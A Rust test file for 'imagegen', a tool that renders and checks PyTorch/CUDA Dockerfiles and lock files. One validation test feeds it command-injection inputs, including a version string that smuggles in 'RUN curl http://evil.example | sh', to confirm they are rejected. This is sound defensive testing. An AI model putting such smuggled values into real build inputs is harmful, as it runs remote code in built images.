//! CLI tests: `resolve`, `render`, `--check` and every error path, run as a user runs them.

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use predicates::prelude::*;

use crate::support::uv::fake_uv;

fn imagegen() -> Command {
    Command::cargo_bin("imagegen").unwrap()
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

/// A temporary directory holding a copy of a fixture as `matrix.yaml`.
fn workspace(fixture_name: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(fixture(fixture_name), dir.path().join("matrix.yaml")).unwrap();
    dir
}

fn write_matrix(dir: &Path, text: &str) {
    std::fs::write(dir.join("matrix.yaml"), text).unwrap();
}

fn stdout_of(command: &mut Command) -> String {
    let output = command.output().unwrap();
    assert!(
        output.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn resolve_table_for_people() {
    let dir = workspace("basic.yaml");
    let table = stdout_of(imagegen().current_dir(dir.path()).arg("resolve"));
    insta::assert_snapshot!("resolve_table", table);
}

#[test]
fn resolve_json_has_every_documented_field() {
    let dir = workspace("basic.yaml");
    let text = stdout_of(
        imagegen()
            .current_dir(dir.path())
            .args(["resolve", "--format", "json"]),
    );
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let images = json["images"].as_array().unwrap();
    assert!(!images.is_empty());
    for image in images {
        for key in [
            "tag",
            "aliases",
            "variant",
            "torch",
            "cuda",
            "cudnn",
            "python",
            "os",
            "base_image",
            "driver_min",
            "driver_min_compat",
            "require_cuda",
            "fingerprint",
        ] {
            assert!(!image[key].is_null(), "image lacks {key}: {image}");
        }
    }
    let rejected = json["rejected"].as_array().unwrap();
    let example = rejected
        .iter()
        .find(|r| r["torch"] == "2.7.0" && r["cuda"] == "12.4")
        .expect("the include of 2.7.0 + 12.4 is rejected");
    assert_eq!(
        example["reason"]
            .as_str()
            .unwrap()
            .split(';')
            .next()
            .unwrap(),
        "torch 2.7.0 has no CUDA 12.4 wheels (it publishes cu118, cu126, cu128)"
    );
    assert_eq!(example["origin"], "include[0]");
    assert_eq!(
        example["location"], "matrix.yaml:11",
        "the include rule's line"
    );
}

#[test]
fn resolve_for_a_fleet_driver() {
    let dir = workspace("basic.yaml");
    let text = stdout_of(imagegen().current_dir(dir.path()).args([
        "resolve",
        "--driver",
        "535.104.05",
        "--format",
        "json",
    ]));
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let kept: Vec<&str> = json["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["cuda"].as_str().unwrap())
        .collect();
    assert!(kept.iter().all(|cuda| *cuda == "11.8"), "{kept:?}");
    let reasons: Vec<&str> = json["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["origin"] == "driver")
        .map(|r| r["reason"].as_str().unwrap())
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("needs NVIDIA driver ≥ 560.35.05")),
        "{reasons:?}"
    );
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("needs NVIDIA driver ≥ 570.124.06")),
        "{reasons:?}"
    );

    let forward = stdout_of(imagegen().current_dir(dir.path()).args([
        "resolve",
        "--driver",
        "535.104.05",
        "--forward-compat",
        "--format",
        "json",
    ]));
    let json: serde_json::Value = serde_json::from_str(&forward).unwrap();
    assert!(json["images"]
        .as_array()
        .unwrap()
        .iter()
        .any(|i| i["cuda"] == "12.8"));

    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--driver", "12.4"])
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("error: --driver")
                .and(predicate::str::contains("did you give a CUDA version")),
        );
}

#[test]
fn resolve_strict_fails_on_rejections() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--strict"])
        .assert()
        .code(1);
}

#[test]
fn render_is_deterministic_and_check_finds_drift() {
    let dir = workspace("basic.yaml");
    let out = dir.path().join("images");
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    let runtime =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile"))
            .unwrap();

    // A second render changes nothing, byte for byte.
    let again = stdout_of(imagegen().current_dir(dir.path()).arg("render"));
    assert!(again.contains("0 changed, 0 removed"), "{again}");
    // The images install from locks, which only `imagegen lock` makes: --check names each one.
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "lock: images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/requirements.lock is missing",
        ))
        .stderr(predicate::str::contains("hint: run `imagegen lock`"));
    let uv = fake_uv(dir.path());
    let uv_log = dir.path().join("uv-calls.log");
    let locked = imagegen()
        .current_dir(dir.path())
        .env("FAKE_UV_LOG", &uv_log)
        .args(["lock", "--uv"])
        .arg(&uv)
        .output()
        .unwrap();
    let locked_text = String::from_utf8_lossy(&locked.stderr);
    assert!(locked.status.success(), "{locked_text}");
    assert!(
        locked_text.contains("locked images/2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04/requirements.lock: 4 packages (was missing"),
        "{locked_text}"
    );
    let calls = std::fs::read_to_string(&uv_log).unwrap();
    let runtime_call = calls
        .lines()
        .find(|call| call.contains("--python-version 3.12") && !call.contains("runtime.lock"))
        .unwrap();
    for flag in [
        "pip compile requirements.in --constraints constraints.txt",
        "--python-platform x86_64-manylinux_2_39",
        "--generate-hashes --no-header --only-binary :all: --no-config",
        "--default-index https://download.pytorch.org/whl/cu126",
    ] {
        assert!(runtime_call.contains(flag), "{flag}: {runtime_call}");
    }
    assert!(
        calls
            .lines()
            .any(|call| call.contains("--constraints runtime.lock")),
        "devel locks are resolved against their runtime lock: {calls}"
    );
    let lock = std::fs::read_to_string(
        out.join("2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04/requirements.lock"),
    )
    .unwrap();
    assert!(
        lock.starts_with("# imagegen-lock-inputs: sha256:"),
        "{lock}"
    );
    assert!(
        lock.contains("# GENERATED by `imagegen lock` (uv 0.13.9)."),
        "{lock}"
    );
    assert!(lock.contains("# requirements: torch==2.7.1+cu126 torchvision==0.22.1+cu126 torchaudio==2.7.1+cu126 ninja\n"), "{lock}");
    assert!(lock.contains("# constrained by: ../2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/requirements.lock (sha256:"), "{lock}");
    assert!(
        lock.contains("\nninja==1.13.2 \\\n    --hash=sha256:"),
        "{lock}"
    );
    // The fingerprints cover the locks: `lock` rendered the Dockerfiles again.
    let relocked =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile"))
            .unwrap();
    assert_ne!(relocked, runtime, "the fingerprint covers the lock");
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "18 images up to date, 18 locks fresh",
        ));
    // Fresh locks are kept; a second lock asks uv nothing.
    let before = std::fs::read_to_string(&uv_log).unwrap().lines().count();
    imagegen()
        .current_dir(dir.path())
        .env("FAKE_UV_LOG", &uv_log)
        .args(["lock", "--uv"])
        .arg(&uv)
        .assert()
        .success()
        .stdout(predicate::str::contains("0 locks written, 18 unchanged"));
    assert_eq!(
        std::fs::read_to_string(&uv_log).unwrap().lines().count(),
        before
    );
    let runtime = relocked;
    let devel =
        std::fs::read_to_string(out.join("2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04/Dockerfile"))
            .unwrap();
    insta::assert_snapshot!(
        "rendered_2_7_1_cuda12_6_ubuntu24_04",
        format!("===== runtime =====\n{runtime}===== devel =====\n{devel}")
    );

    // A hand edit is found, with a diff, and nothing is written.
    let edited = out.join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04/Dockerfile");
    std::fs::write(&edited, runtime.replace("gcc", "clang")).unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(
            predicate::str::contains("-      clang").and(predicate::str::contains("+      gcc")),
        )
        .stderr(predicate::str::contains("hint: run `imagegen render`"));
    assert!(std::fs::read_to_string(&edited).unwrap().contains("clang"));
    std::fs::write(&edited, &runtime).unwrap();

    // A hand-edited lock changes the fingerprint the Dockerfile carries.
    let lock_path = out.join("2.8.0-cuda12.6-cudnn9-runtime-ubuntu22.04/requirements.lock");
    let lock = std::fs::read_to_string(&lock_path).unwrap();
    std::fs::write(
        &lock_path,
        lock.replace("torch==2.8.0+cu126", "torch==2.8.1+cu126"),
    )
    .unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("-# fingerprint: sha256:"));
    std::fs::write(&lock_path, &lock).unwrap();

    // A matrix change that resolves differently makes the locks stale, saying what changed.
    let text = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(
        dir.path(),
        &format!("{text}mirrors:\n  pip_index: https://proxy.example.com/simple\n"),
    );
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(
            predicate::str::contains("requirements.lock is stale: the matrix asks for other inputs")
                .and(predicate::str::contains("  - indexes: https://download.pytorch.org/whl/cu126\n"))
                .and(predicate::str::contains(
                    "  + indexes: https://download.pytorch.org/whl/cu126 https://proxy.example.com/simple\n",
                )),
        );
    write_matrix(dir.path(), &text);

    // Images the matrix no longer makes are stale for --check and removed by render.
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    let text = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(
        dir.path(),
        &text.replace("torch: [\"2.7\", \"2.8.0\"]", "torch: [\"2.8.0\"]"),
    );
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "stale: images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04",
        ));
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "removed images/2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04",
        ));
    assert!(!out
        .join("2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04")
        .exists());
    // Directories imagegen did not generate are never touched.
    std::fs::create_dir_all(out.join("hand-made")).unwrap();
    std::fs::write(out.join("hand-made/Dockerfile"), "FROM scratch\n").unwrap();
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    assert!(out.join("hand-made/Dockerfile").exists());
}

#[test]
fn lock_without_uv_is_one_error_with_a_hint() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .env("PATH", "/nonexistent")
        .env_remove("IMAGEGEN_UV")
        .arg("lock")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("error: cannot run uv (uv):").and(
            predicate::str::contains("hint: `imagegen lock` resolves the locks with uv"),
        ));
    assert!(!dir.path().join("images").exists(), "nothing is written");
    // A matrix whose templates install without a lock has nothing to lock.
    let text = std::fs::read_to_string(dir.path().join("matrix.yaml")).unwrap();
    write_matrix(dir.path(), &format!("{text}lock: false\n"));
    imagegen()
        .current_dir(dir.path())
        .args(["render", "--check"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "`lock: false`, but the embedded runtime or devel template installs from images/<name>/requirements.lock",
        ));
}

#[test]
fn build_refuses_images_whose_lock_is_missing() {
    let dir = workspace("basic.yaml");
    imagegen()
        .current_dir(dir.path())
        .arg("render")
        .assert()
        .success();
    imagegen()
        .current_dir(dir.path())
        .args([
            "build",
            "--dry-run",
            "--only",
            "2.8.0-cuda12.8-cudnn9-runtime-ubuntu24.04",
        ])
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("1 lock(s) of the images to build do not match")
                .and(predicate::str::contains(
                    "images/2.8.0-cuda12.8-cudnn9-runtime-ubuntu24.04/requirements.lock is missing",
                ))
                .and(predicate::str::contains("hint: run `imagegen lock`")),
        );
}

#[test]
fn bad_matrix_input_is_one_precise_error_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::read_to_string(fixture("basic.yaml")).unwrap();
    let cases: Vec<(String, Vec<&str>)> = vec![
        (
            base.replace("torch:", "torhc:"),
            vec![
                "matrix.yaml:4:1: unknown field `torhc`",
                "hint: did you mean `torch`?",
            ],
        ),
        (
            base.replace("\"12.8\"", "\"12.8b\""),
            vec!["matrix.yaml:5:", "malformed version \"12.8b\""],
        ),
        (
            base.replace(
                "[\"2.7\", \"2.8.0\"]",
                "[\"2.7.0\\nRUN curl http://evil.example | sh\"]",
            ),
            vec!["matrix.yaml:4:", "malformed version"],
        ),
        (
            base.replace("team/pytorch", "\"team/pytorch:latest\\nRUN id\""),
            vec!["repository", "not allowed in an image reference"],
        ),
        (
            base.replace("variants: [runtime, devel]", "variants: [runtime, debug]"),
            vec!["matrix.yaml:7:", "unknown variant `debug`"],
        ),
        (
            base.replace("cuda: [\"11.8\", \"12.6\", \"12.8\"]", "cuda: 12.6"),
            vec!["matrix.yaml:5:", "hint: axes are lists"],
        ),
    ];
    for (text, expected) in cases {
        write_matrix(dir.path(), &text);
        let assert = imagegen()
            .current_dir(dir.path())
            .arg("render")
            .assert()
            .code(2);
        let stderr = String::from_utf8(assert.get_output().stderr.clone()).unwrap();
        for needle in expected {
            assert!(stderr.contains(needle), "expected {needle:?} in:\n{stderr}");
        }
        assert_eq!(
            stderr.matches("error:").count(),
            1,
            "one error, printed once:\n{stderr}"
        );
        assert!(
            !dir.path().join("images").exists(),
            "nothing may be written on bad input"
        );
    }
}

#[test]
fn missing_matrix_file_is_named() {
    let dir = tempfile::tempdir().unwrap();
    imagegen()
        .current_dir(dir.path())
        .args(["resolve", "--matrix", "nope.yaml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cannot read matrix nope.yaml"));
}

#[test]
fn every_subcommand_has_help_and_there_is_a_version() {
    imagegen()
        .arg("--version")
        .assert()
        .success()
        .stdout(predicate::str::starts_with("imagegen "));
    let help = stdout_of(imagegen().arg("--help"));
    let subcommands: Vec<String> = help
        .lines()
        .skip_while(|l| !l.starts_with("Commands:"))
        .skip(1)
        .take_while(|l| l.starts_with("  ") || l.is_empty())
        .filter(|l| l.starts_with("  ") && !l.starts_with("   "))
        .map(|l| l.split_whitespace().next().unwrap().to_string())
        .filter(|name| name != "help")
        .collect();
    assert!(subcommands.len() >= 2, "{help}");
    for name in subcommands {
        imagegen()
            .args([name.as_str(), "--help"])
            .assert()
            .success()
            .stdout(predicate::str::contains("Usage: imagegen"));
    }
}

#[test]
fn the_repository_images_are_up_to_date() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    imagegen()
        .current_dir(root)
        .args(["render", "--check"])
        .assert()
        .success();
}
